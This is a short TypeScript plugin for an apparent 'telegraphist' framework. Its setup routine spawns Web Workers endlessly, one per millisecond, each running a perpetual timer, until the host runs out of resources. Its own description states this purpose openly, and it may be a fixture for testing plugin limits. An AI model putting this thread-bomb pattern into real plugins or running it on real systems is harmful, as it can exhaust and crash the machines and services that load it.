import { definePlugin } from "telegraphist";
import { z } from "zod";

export default definePlugin({
  name: "start-workers",
  version: "1.0.0",
  description: "Starts threads until there is no room for more",
  config: z.object({}),
  permissions: {},
  async setup() {
    const script = URL.createObjectURL(new Blob(["setInterval(() => {}, 1000)"]));
    for (;;) {
      new Worker(script);
      await Bun.sleep(1);
    }
  },
});
